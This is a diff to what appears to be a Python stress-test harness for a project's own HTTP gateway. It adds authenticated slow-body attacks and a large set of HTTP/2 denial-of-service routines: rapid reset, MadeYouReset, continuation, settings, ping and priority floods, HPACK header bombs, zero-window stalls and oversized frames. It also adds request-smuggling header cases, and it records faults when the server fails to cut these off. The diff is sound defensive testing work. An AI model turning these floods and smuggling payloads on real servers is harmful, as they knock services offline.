@@ -125,10 +125,15 @@ def slow_head(siege):
     crowd(siege, 500, b"POST /event HTTP/1.1\r\n" + HOST + b"x-slow: ", b"slow")
 
 
+def authorised(siege):
+    """Fields that get a request past the look at its head: this attacker is a client."""
+    return (f"authorization: Bearer {siege.token}\r\nstrm-schema-ref: strmprivacy/example/1.5.0\r\n").encode()
+
+
 @attack("slow_body")
 def slow_body(siege):
-    """500 bodies, a byte at a time"""
-    crowd(siege, 500, b"POST /event HTTP/1.1\r\n" + HOST + b"content-length: 100000\r\n\r\n", b"slow")
+    """500 bodies, a byte at a time, with a good token"""
+    crowd(siege, 500, b"POST /event HTTP/1.1\r\n" + HOST + authorised(siege) + b"content-length: 100000\r\n\r\n", b"slow")
 
 
 @attack("bad_request")
@@ -180,14 +185,14 @@ def oversized(siege):
             peer.send(OVERSIZED[number % len(OVERSIZED)])
             if not peer.until_cut_off():
                 siege.faults.append(f"oversized {number % len(OVERSIZED)} was not cut off")
-            check_single_refusal(siege, peer, f"oversized {number % len(OVERSIZED)}", (400, 413, 414, 431))
+            check_single_refusal(siege, peer, f"oversized {number % len(OVERSIZED)}", (400, 401, 413, 414, 431))
         number += 1
 
 
 @attack("bad_request")
 def chunk_framing(siege):
     """chunks of one byte with long extensions: much framing, no body"""
-    flood(siege, b"POST /event HTTP/1.1\r\n" + HOST + b"transfer-encoding: chunked\r\n\r\n",
+    flood(siege, b"POST /event HTTP/1.1\r\n" + HOST + authorised(siege) + b"transfer-encoding: chunked\r\n\r\n",
           (b"1;" + b"e" * 200 + b"\r\nx\r\n") * 100)
 
 
@@ -265,14 +270,243 @@ def smuggling(siege):
             peer.send(case + b"GET /ready HTTP/1.1\r\n" + HOST + b"\r\n")
             if not peer.until_cut_off():
                 siege.faults.append(f"{case!r} was not cut off")
-            check_single_refusal(siege, peer, repr(case), (400, 501, 505))
+            check_single_refusal(siege, peer, repr(case), (400, 401, 501, 505))
         number += 1
 
 
 @attack("slow_body", "memory_full")
 def hoarded_bodies(siege):
-    """200 bodies of 1 MiB, all but the last byte"""
-    crowd(siege, 200, b"POST /event HTTP/1.1\r\n" + HOST + b"content-length: 1048576\r\n\r\n" + b"x" * 1_048_575)
+    """200 bodies of 1 MiB, all but the last byte, with a good token"""
+    crowd(siege, 200, b"POST /event HTTP/1.1\r\n" + HOST + authorised(siege) + b"content-length: 1048576\r\n\r\n" + b"x" * 1_048_575)
+
+
+# HTTP/2. Most of it over plain text: the frames are the attack, and TLS would only slow the attacker down.
+
+def streams(first=1):
+    return range(first, 2_000_001, 2)
+
+
+def blocks_of(make, size=500):
+    """Runs of frames for one stream after the other, made as they are needed."""
+    run = []
+    for number in streams():
+        run.append(make(number))
+        if len(run) == size:
+            yield b"".join(run)
+            run = []
+
+
+def stream_flood(siege, make, first=opening()):
+    """Frames on one stream after the other until the connection is cut off; again and again."""
+    ready = [block for block, _ in zip(blocks_of(make), range(100))]
+    while siege.goes_on():
+        with siege.peer() as peer:
+            peer.send(first)
+            for block in ready:
+                if not siege.goes_on() or not peer.send(block):
+                    break
+                peer.take()
+            peer.until_cut_off(5)
+
+
+@attack("http2_reset_flood")
+def rapid_reset(siege):
+    """streams opened and reset at once (CVE-2023-44487)"""
+    head = request(more=authorised_fields(siege))
+    stream_flood(siege, lambda number: headers(number, head, END_HEADERS) + reset(number))
+
+
+@attack("http2_provoked_resets", "http2_protocol_error", "http2_stream_closed", "http2_flow_control_error")
+def made_you_reset(siege):
+    """the server is made to reset streams, in eight ways (CVE-2025-8671)"""
+    client = authorised_fields(siege)
+    begin = lambda number, more=b"": headers(number, request(more=client + more), END_HEADERS)
+    ways = [
+        lambda number: begin(number) + window_update(number, 0),
+        lambda number: begin(number) + window_update(number, 0x7FFF_FFFF) + window_update(number, 0x7FFF_FFFF),
+        lambda number: begin(number) + priority(number, number),
+        lambda number: headers(number, request(more=literal("content-length", "5"))),
+        lambda number: begin(number, literal("content-length", "1")) + frame(DATA, 0, number, b"four"),
+        lambda number: headers(number, request()) + headers(number, request()),
+        lambda number: headers(number, request()) + frame(DATA, END_STREAM, number, b"more"),
+        lambda number: begin(number) + frame(PRIORITY, 0, number, b"1234"),
+    ]
+    number = 0
+    while siege.goes_on():
+        with siege.peer() as peer:
+            peer.send(opening())
+            for block, _ in zip(blocks_of(ways[number % len(ways)], 100), range(40)):
+                if not peer.send(block):
+                    break
+                peer.take()
+            if not peer.until_cut_off():
+                siege.faults.append(f"way {number % len(ways)} goes on for ever")
+        number += 1
+
+
+@attack("http2_continuation_flood")
+def continuation_flood(siege):
+    """a header block without end (CVE-2024-27316)"""
+    flood(siege, opening() + headers(1, request(), END_STREAM),
+          b"".join(frame(CONTINUATION, 0, 1, literal("x", "y")) for _ in range(100)))
+
+
+@attack("http2_settings_flood", "http2_unread_output")
+def settings_flood(siege):
+    """settings without end, each of which has to be acknowledged"""
+    flood(siege, opening(), settings(INITIAL_WINDOW_SIZE=65_535) * 500)
+
+
+@attack("http2_ping_flood", "http2_unread_output")
+def ping_flood(siege):
+    """pings without end, each of which has to be answered"""
+    flood(siege, opening(), frame(PING, 0, 0, b"12345678") * 500)
+
+
+@attack("http2_priority_flood")
+def priority_flood(siege):
+    """a priority for one stream after the other"""
+    stream_flood(siege, lambda number: priority(number + 2, number))
+
+
+@attack("http2_window_update_flood")
+def window_update_flood(siege):
+    """windows that grow by one byte"""
+    flood(siege, opening(), window_update(0, 1) * 500)
+
+
+@attack("http2_empty_frame_flood")
+def empty_data_flood(siege):
+    """DATA without data (CVE-2019-9518)"""
+    flood(siege, opening() + headers(1, request(more=authorised_fields(siege)), END_HEADERS), frame(DATA, 0, 1) * 500)
+
+
+@attack("http2_unknown_frame_flood")
+def unknown_frame_flood(siege):
+    """frames of types that nobody has defined"""
+    flood(siege, opening(), frame(0xBB, 0, 0, b"x" * 8) * 500)
+
+
+@attack("http2_header_bomb", "refused_tokens")
+def hpack_bomb(siege):
+    """a few bytes that stand for megabytes of header fields"""
+    start = opening() + headers(1, request(more=indexed_literal("x", "y" * 4000)))
+    stream_flood(siege, lambda number: headers(number + 2, request(more=entry(62) * 2000)), start)
+
+
+@attack("refused_tokens")
+def table_thrashing(siege):
+    """every request fills the dynamic table anew"""
+    stream_flood(siege, lambda number: headers(number, request(more=b"".join(
+        indexed_literal(f"x{number}-{field}", "y" * 100) for field in range(30)))))
+
+
+@attack("http2_unread_output")
+def closed_windows(siege):
+    """answers that the flow control lets nobody send (zero window)"""
+    start = opening(INITIAL_WINDOW_SIZE=0)
+    crowd(siege, 50, start + b"".join(headers(number, request("/nowhere", method=GET)) for number in range(1, 200, 2)))
+
+
+@attack("http2_slow_frame", "slow_head")
+def slow_frames(siege):
+    """300 connections that begin a preface, a frame or a header block, and stop"""
+    starts = [PREFACE[:10], PREFACE, opening()[:-4], opening() + headers(1, request())[:-3], opening() + headers(1, request(), 0)]
+    peers = []
+    while siege.goes_on():
+        while len(peers) < 300 and siege.goes_on():
+            peer = siege.peer()
+            peer.send(random.choice(starts))
+            peers.append(peer)
+        for peer in peers:
+            peer.take()
+        peers = [peer for peer in peers if peer.alive or peer.close()]
+        time.sleep(0.05)
+
+
+def authorised_fields(siege):
+    """The same for HTTP/2."""
+    return literal("authorization", f"Bearer {siege.token}") + literal("strm-schema-ref", "strmprivacy/example/1.5.0")
+
+
+@attack("http2_slow_bodies")
+def slow_streams(siege):
+    """100 bodies at once on each of 50 connections, a byte each, with a good token"""
+    head = request(more=authorised_fields(siege))
+    crowd(siege, 50, opening() + b"".join(
+        headers(number, head, END_HEADERS) + frame(DATA, 0, number, b"x") for number in range(1, 200, 2)))
+
+
+@attack("http2_slow_bodies", "http2_flow_control_error")
+def hoarded_streams(siege):
+    """bodies of 1 MiB on all streams of 30 connections, as much as the windows allow"""
+    head = request(more=authorised_fields(siege))
+    body = b"".join(headers(number, head, END_HEADERS) for number in range(1, 200, 2))
+    body += b"".join(frame(DATA, 0, number, b"x" * 16_000) for _ in range(2) for number in range(1, 200, 2))
+    crowd(siege, 30, opening() + body)
+
+
+@attack("http2_frame_size_error", "http2_header_bomb", "http2_continuation_flood")
+def oversized_frames(siege):
+    """frames, header lists and blocks beyond their limits"""
+    large = literal("x", "y" * 16_000)
+    cases = [
+        b"\xff\xff\xff" + bytes((DATA, 0)) + b"\x00\x00\x00\x01" + b"x" * 100_000,
+        b"".join(headers(number, request(more=literal("x", "y" * 10_000)), END_STREAM)
+                 + b"".join(frame(CONTINUATION, 0 if piece < 9 else END_HEADERS, number, large[:16_000])
+                            for piece in range(10)) for number in range(1, 400, 2)),
+        headers(1, request(), END_STREAM) + frame(CONTINUATION, 0, 1, large[:16_384]) * 40,
+        frame(SETTINGS, 0, 0, b"1234567"), frame(PING, 0, 0, b"123"), frame(WINDOW_UPDATE, 0, 0, b"12"),
+        frame(HEADERS, END_HEADERS | HAS_PRIORITY, 1, b"123"), frame(RST_STREAM, 0, 1, b"12"),
+    ]
+    number = 0
+    while siege.goes_on():
+        with siege.peer() as peer:
+            peer.send(opening() + cases[number % len(cases)])
+            if not peer.until_cut_off():
+                siege.faults.append(f"oversized {number % len(cases)} was not cut off")
+        number += 1
+
+
+def has_success(received):
+    """A HEADERS frame that begins with :status 200 or 204 of the static table."""
+    at = 0
+    while at + 9 <= len(received):
+        length = int.from_bytes(received[at:at + 3])
+        if received[at + 3] == HEADERS and received[at + 9:at + 10] in (entry(8), entry(9)):
+            return True
+        at += 9 + length
+    return False
+
+
+@attack("http2_provoked_resets", "http2_protocol_error")
+def smuggled_streams(siege):
+    """heads that mean something else behind us: line ends in names and values, connection fields, lengths that lie"""
+    get = lambda more: request("/ready", more, GET)
+    cases = [get(literal(name, value)) for name, value in [
+        ("x", "a\r\nb: c"), ("x", "a\nb"), ("x", "a\rb"), ("x", "a\x00b"), ("x\r\ny", "z"), ("x\x00", "z"), ("X-Upper", "z"),
+        ("", "nameless"), ("x y", "z"), ("x:y", "z"), (" x", "z"), ("connection", "close"), ("transfer-encoding", "chunked"),
+        ("keep-alive", "1"), ("upgrade", "h2c"), ("proxy-connection", "close"), ("te", "gzip"), (":status", "200"),
+        (":path", "/event"), (":method", "POST"), (":unknown", "x"), ("host", "other"), ("content-length", "5"),
+        ("content-length", "0, 5"), ("content-length", "-1"), ("content-length", "x"), ("x", " a"), ("x", "a\t")]]
+    cases += [
+        get(literal("content-length", "0") + literal("content-length", "1")),
+        GET + HTTPS + literal(4, "/ready\r\nx: y") + literal(1, "localhost"), GET + HTTPS + literal(4, "/re ady") + literal(1, "localhost"),
+        GET + HTTPS + literal(4, "") + literal(1, "localhost"), GET + HTTPS + literal(1, "localhost"), GET + literal(4, "/ready"),
+        literal(2, "GE T") + HTTPS + literal(4, "/ready") + literal(1, "localhost"),
+        literal(2, "GET\r\n") + HTTPS + literal(4, "/ready") + literal(1, "localhost"),
+        GET + HTTPS + literal(4, "/ready") + literal(1, "local\r\nhost"), GET + HTTPS + literal(4, "/ready") + literal(1, "a@b"),
+        literal("x", "y") + get(b""), get(b"") + literal(4, "/event"), GET + literal(6, "ht tp") + literal(4, "/ready") + literal(1, "localhost"),
+    ]
+    for number, case in enumerate(cases):
+        with siege.peer() as peer:
+            peer.send(opening() + headers(1, case) + frame(PING, 0, 0, b"12345678"))
+            until = time.monotonic() + 20
+            while peer.alive and time.monotonic() < until and b"12345678" not in peer.received:
+                peer.wait(0.2)
+            if has_success(peer.received):
+                siege.faults.append(f"{case!r} was served")
+    stream_flood(siege, lambda number: headers(number, cases[number // 2 % 24]))
 
 
 # What the gateway does with a request.
